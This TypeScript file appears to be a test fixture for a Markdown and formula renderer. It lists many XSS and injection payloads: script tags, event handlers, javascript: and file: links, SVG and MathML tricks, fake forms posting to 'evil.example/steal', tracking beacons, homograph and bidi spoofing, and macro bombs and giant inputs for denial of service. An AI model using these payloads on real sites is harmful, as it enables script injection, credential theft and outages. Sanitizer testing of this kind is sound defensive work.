/** What every attack tries to reach; nothing of ours ever asks there. */
export const ATTACKER = 'evil.example';

export interface Attack {
  kind: string;
  name: string;
  text: string;
  /** Too long to stand in every place of a record. */
  isGiant?: boolean;
}

/** Leaves a trace in the page and one in the network. */
const JS = `globalThis.attacked=1;fetch('https://${ATTACKER}/ran')`;
const SITE = `https://${ATTACKER}`;
/** Without quotation marks, blanks and brackets, which end a Markdown address. */
const BARE = 'globalThis.attacked=1';

const corpus: Record<string, Record<string, string>> = {
  script: {
    plain: `<script>${JS}</script>`,
    'from outside': `<script src="${SITE}/x.js"></script>`,
    module: `<script type="module">${JS}</script>`,
    'odd case and blanks': `<ScRiPt\n >${JS}</sCrIpT >`,
    'nested tags': `<scr<script>ipt>${JS}</scr</script>ipt>`,
    'in a fence that it closes': `\`\`\`\n</code></pre><script>${JS}</script>\n\`\`\``,
    'in inline code': `\`</code><script>${JS}</script>\``,
    'in a comment': `<!--><script>${JS}</script>-->`,
    'in CDATA': `<![CDATA[><script>${JS}</script>]]>`,
    'as entities': `&lt;script&gt;${JS}&lt;/script&gt;`,
    'behind a title': `</title></h1><script>${JS}</script>`,
    noscript: `<noscript><p title="</noscript><script>${JS}</script>">`,
    template: `<template><script>${JS}</script></template>`,
    'processing instruction': `<?xml-stylesheet href="${SITE}/x.xsl"?><script>${JS}</script>`,
  },
  handler: {
    'image error': `<img src=x onerror="${JS}">`,
    'image load': `<img src="${SITE}/a.png" onload="${JS}">`,
    'details toggle': `<details open ontoggle="${JS}"><summary>x</summary></details>`,
    'focus at once': `<input autofocus onfocus="${JS}">`,
    'body load': `<body onload="${JS}">`,
    'video source': `<video><source onerror="${JS}"></video>`,
    'audio from outside': `<audio src="${SITE}/a.mp3" autoplay onloadstart="${JS}"></audio>`,
    marquee: `<marquee onstart="${JS}">x</marquee>`,
    pointer: `<b onpointerenter="${JS}" style="position:fixed;inset:0">x</b>`,
    'animation end': `<p style="animation:x 1ms" onanimationend="${JS}">x</p>`,
    'no quotation marks': `<a/href=#/onmouseover=${BARE}>x</a>`,
    'in a link title': `[x](${SITE}/ '" onmouseover="${JS}')`,
    'in an image’s words': `![" onerror="${JS}](${SITE}/a.png)`,
    'in a fence’s language': `\`\`\`x"onmouseover="${BARE}\ny\n\`\`\``,
  },
  link: {
    'javascript:': `[x](javascript:${BARE})`,
    'odd case': `[x](JaVaScRiPt:${BARE})`,
    'a tab inside': `[x](java&Tab;script:${BARE}) [x](<java\tscript:${BARE}>)`,
    'a control character before': `[x](&#1;javascript:${BARE}) [x](<\u0001javascript:${BARE}>)`,
    'entity-encoded': `[x](&#106;avascript:${BARE}) [x](&#x6A;avascript&colon;${BARE})`,
    'percent-encoded': `[x](javascript%3A${BARE}) [x](%6aavascript:${BARE})`,
    autolink: `<javascript:${BARE}>`,
    'by reference': `[x][y] [y]\n\n[y]: javascript:${BARE}`,
    'data:': `[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+) <data:text/html,x>`,
    'vbscript:': '[x](vbscript:msgbox)',
    'blob:': `[x](blob:${SITE}/0c1d) <blob:${SITE}/0c1d>`,
    'file:': '[x](file:///etc/passwd) <file:///etc/passwd>',
    'chrome-extension:': '[x](chrome-extension://dmkphjbpenbacinjddbaomombpllldmb/library.html#/settings) [x](chrome://settings)',
    'filesystem and view-source': `[x](filesystem:${SITE}/a) [x](view-source:${SITE})`,
    'mail and telephone': '[x](mailto:a@evil.example?body=x) a@evil.example <tel:123>',
    'without a scheme': `[x](//${ATTACKER}/) [x](\\\\\\\\${ATTACKER})`,
    'into our own pages': '[x](#/settings) [x](library.html#/settings) [x](/reader.html) [x](?x) [x](#root)',
    login: `[x](https://arxiv.org@${ATTACKER}/) https://arxiv.org@${ATTACKER}/`,
    homograph: '[https://arxiv.org](https://аrxiv.org/) https://аrxiv.org/',
    html: `<a href="javascript:${BARE}" target=_blank>x</a> <a href="${SITE}" ping="${SITE}/ping" target=_blank rel=opener>x</a>`,
    area: `<map name=m><area href="javascript:${BARE}" shape=default></map>`,
  },
  svg: {
    load: `<svg onload="${JS}"></svg>`,
    'script inside': `<svg><script>${JS}</script></svg>`,
    'use from outside': `<svg><use href="${SITE}/x.svg#a"></use></svg>`,
    image: `<svg><image href="${SITE}/x.png" onerror="${JS}"/></svg>`,
    animation: `<svg><a><animate attributeName=href values=javascript:${BARE} /><text y=9>x</text></a></svg>`,
    'foreign object': `<svg><foreignObject><iframe srcdoc="<script>${BARE}</script>"></iframe></foreignObject></svg>`,
    'style that closes': `<svg></p><style><a id="</style><img src=1 onerror=${BARE}>">`,
    'as an image': `![x](data:image/svg+xml,<svg/onload=${BARE}>)`,
  },
  css: {
    style: '<style>*{display:none!important}</style>',
    import: `<style>@import "${SITE}/x.css"</style>`,
    'sheet from outside': `<link rel=stylesheet href="${SITE}/x.css"><link rel=prefetch href="${SITE}/p">`,
    attribute: `<p style="background:url(${SITE}/bg.png);position:fixed;inset:0;z-index:99999">x</p>`,
    'class of ours': '<div class="dialog-shade"><div class="dialog notice">x</div></div>',
    'class by a fence': '```dialog-shade dialog notice\nx\n```',
  },
  markup: {
    frame: `<iframe src="${SITE}"></iframe><iframe src="javascript:${BARE}"></iframe>`,
    'frame with a page': `<iframe srcdoc="<script>parent.${BARE}</script>"></iframe>`,
    'object and embed': `<object data="${SITE}/x.swf"></object><embed src="${SITE}/x">`,
    form: `<form action="${SITE}/steal"><input name=key><button>保存</button></form>`,
    'button of its own': `<button formaction="javascript:${BARE}" onclick="${JS}">x</button>`,
    base: `<base href="${SITE}/">`,
    refresh: `<meta http-equiv=refresh content="0;url=${SITE}/">`,
    policy: `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">`,
    'ids of ours': '<div id=root></div><a id=chrome name=chrome></a><form name=document></form>',
    'import map': `<script type=importmap>{"imports":{"react":"${SITE}/x.js"}}</script>`,
    'shadow root': `<div><template shadowrootmode=open><img src=x onerror="${JS}"></template></div>`,
  },
  formula: {
    href: `$\\href{javascript:${BARE}}{x}$ $\\url{javascript:${BARE}}$`,
    'href to the web': `$\\href{${SITE}/x}{\\text{论文}}$`,
    picture: `$\\includegraphics[height=1em]{${SITE}/x.png}$`,
    style: '$\\htmlStyle{position:fixed;inset:0;z-index:9999}{x}$',
    'class, id and data': '$\\htmlClass{dialog-shade}{x}$ $\\htmlId{root}{x}$ $\\htmlData{passage=P1}{x}$',
    'words as HTML': `$\\text{<img src=x onerror=${BARE}>}$ $\\unicode{x}$`,
    colour: `$\\color{red;background:url(${SITE}/c)}x$ $\\textcolor{url(${SITE}/d)}{x}$ $\\colorbox{white}{x}$`,
    'giant rule': '$\\rule{99999em}{99999em}$ $\\rule[-500em]{1000em}{1000em}$',
    'moved over the page': '$$\\hspace{-500em}\\raisebox{60em}{\\colorbox{white}{$\\rule{20em}{20em}$}}\\kern-300em\\smash{\\Huge{保存}}$$',
    'macro bomb': '$\\def\\a{\\a\\a}\\a$ $\\def\\b#1{\\b{#1#1}}\\b{x}$',
    'macros in tens':
      '$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d$',
    'global macro': `$\\gdef\\frac#1#2{\\href{javascript:${BARE}}{#1}}$ $\\frac{1}{2}$`,
    'MathML with a style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${BARE}&gt;">`,
    'MathML with a link': `<math href="javascript:${BARE}">x</math><math><maction actiontype=statusline xlink:href="javascript:${BARE}">x</maction></math>`,
    'MathML annotation': `<math><annotation-xml encoding="text/html"><script>${JS}</script></annotation-xml></math>`,
    'environment without end': '$\\begin{matrix}\\begin{matrix}\\begin{matrix}$ $\\left(\\left(\\left($',
  },
  beacon: {
    image: `![x](${SITE}/beacon.png)`,
    'by reference': `![x][b]\n\n[b]: ${SITE}/beacon.png`,
    'in a link': `[![x](${SITE}/beacon.png)](${SITE}/)`,
    'in a table': `|a|\n|-|\n|![x](${SITE}/t.png)|`,
    'in a heading': `# ![x](${SITE}/h.png)`,
    'HTML picture': `<picture><source srcset="${SITE}/s.png"><img src="${SITE}/i.png" srcset="${SITE}/j.png 2x"></picture>`,
    'without a scheme': `![x](//${ATTACKER}/b.png)`,
    'every other way': `<input type=image src="${SITE}/1"><table background="${SITE}/2"><video poster="${SITE}/3"><track src="${SITE}/4"><q cite="${SITE}/5">`,
  },
  markdown: {
    footnotes: `甲[^root] 乙[^1]。\n\n[^root]: ![x](${SITE}/f.png)\n[^1]: [x](javascript:${BARE})`,
    'link in a link': `[a [b](javascript:${BARE}) c](${SITE}/)`,
    'definition that shadows': `[P3]: javascript:${BARE}\n\n见 [P3] 与 [T2]。`,
    'task list': '- [x] <input autofocus>\n- [ ] b',
    'table that breaks out': `|a|b|\n|-|-|\n|</td></table><script>${JS}</script>|x|`,
    'citation with markup': `[P3<img src=x onerror=${BARE}>] [P3](javascript:${BARE})`,
    'sentinels of ours': '\ue000\ue001\ue002 甲 \uf8ff %EE%80%80 [x](https://example.org/%EE%80%80)',
    'directives and attributes': `:::note{onclick="${BARE}"}\nx\n:::\n# x {onclick="${BARE}"}`,
    'heading without end': `${'#'.repeat(500)} x`,
  },
  text: {
    'bidi override': '\u202e\u2066gnp.txt\u2069 https://example.org/\u202egnp.exe',
    NUL: `a\u0000<scr\u0000ipt>${JS}</script>[x](java\u0000script:${BARE})`,
    'lone surrogates': 'a\ud800b\udc00c [x](https://example.org/\ud83d) $\ud835$',
    'combining marks': `x${'\u0301'.repeat(2000)}`,
    'zero width': 'jav\u200bascript:\u2060x\ufeff\u00ad',
    'names of properties': '__proto__ constructor toString {{constructor.constructor("x")()}} #{attacked=1}',
    'line separators': `a\u2028<script>${JS}</script>\u2029\u0085b\r\rc\u000b`,
  },
};

const giants: Record<string, string> = {
  'quotations in quotations': `${'>'.repeat(10_000)} x`,
  'lists in lists': `${'- '.repeat(10_000)}x`,
  brackets: `${'['.repeat(10_000)}x${']'.repeat(10_000)}`,
  'emphasis in emphasis': `${'*'.repeat(10_000)}x${'*'.repeat(10_000)}`,
  'indented lists': Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
  'a line of 200 kB': 'x'.repeat(200_000),
  'a formula in braces': `$${'{'.repeat(5_000)}x${'}'.repeat(5_000)}$`,
  'ten thousand references': `${'[a]'.repeat(3_000)}\n\n[a]: javascript:${BARE}`,
  'tags in tags': '<b>'.repeat(10_000),
  'backticks of every length': Array.from({ length: 200 }, (_, length) => '`'.repeat(length + 1)).join(' '),
};

export const ATTACKS: readonly Attack[] = [
  ...Object.entries(corpus).flatMap(([kind, cases]) => Object.entries(cases).map(([name, text]) => ({ kind, name, text }))),
  ...Object.entries(giants).map(([name, text]) => ({ kind: 'giant', name, text, isGiant: true })),
];
